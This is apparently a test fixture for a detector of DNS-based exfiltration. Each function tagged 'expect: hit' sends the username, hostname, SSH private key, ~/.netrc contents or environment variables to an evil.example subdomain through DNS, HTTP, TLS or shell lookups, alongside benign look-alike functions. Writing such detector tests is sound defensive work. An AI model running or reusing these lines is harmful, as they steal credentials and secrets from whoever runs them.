import asyncio
import base64
import getpass
import os
import socket
import ssl
import subprocess

import dns.resolver
import requests


def plain():
    socket.gethostbyname(f"{socket.gethostname()}.c.evil.example")  # expect: hit


def encoded():
    user = base64.b32encode(getpass.getuser().encode()).decode().strip("=")
    dns.resolver.resolve(user + ".c.evil.example", "A")  # expect: hit


def in_address():
    requests.get("https://" + socket.gethostname() + ".c.evil.example/")  # expect: hit


def by_tool():
    os.system("nslookup " + getpass.getuser() + ".c.evil.example")  # expect: hit


def in_pieces():
    data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read().hex()
    for i in range(0, len(data), 60):
        look = getattr(socket, "get" + "addrinfo")
        look("%s.%s" % (data[i : i + 60], "c.evil" + ".example"), 80)  # expect: hit


def _name(data):
    return ".".join([data, "c", "evil", "example"])


def split():
    __import__("socket").gethostbyname(_name(getpass.getuser()))  # expect: hit


# look-alikes
def own_address():
    return socket.gethostbyname(socket.gethostname())


def lookup(domain):
    return dns.resolver.resolve(domain, "MX")


def tenant(name):
    return requests.get(f"https://{name}.api.evil.example/")


def ping(host):
    return subprocess.run(["ping", "-c1", host])


async def asked_by_loop():
    raw = open(os.path.expanduser("~/.netrc"), "rb").read()
    loop = asyncio.get_running_loop()
    await loop.getaddrinfo(binascii.hexlify(raw[:30]).decode() + ".x.evil.example", 80)  # expect: hit


def by_certificate():
    label = base64.b32encode(repr(sorted(os.environ.items())).encode()).decode().lower()
    ssl.get_server_certificate((label[:60] + ".x.evil.example", 443))  # expect: hit


def certificate_of(domain):
    return ssl.get_server_certificate((f"www.{domain}", 443))


def told_by_the_shell():
    os.system("ping -c1 $(whoami).t.example.net")  # expect: hit
    os.system("ping -c1 $(cut -d: -f2 /etc/acme).example.net")
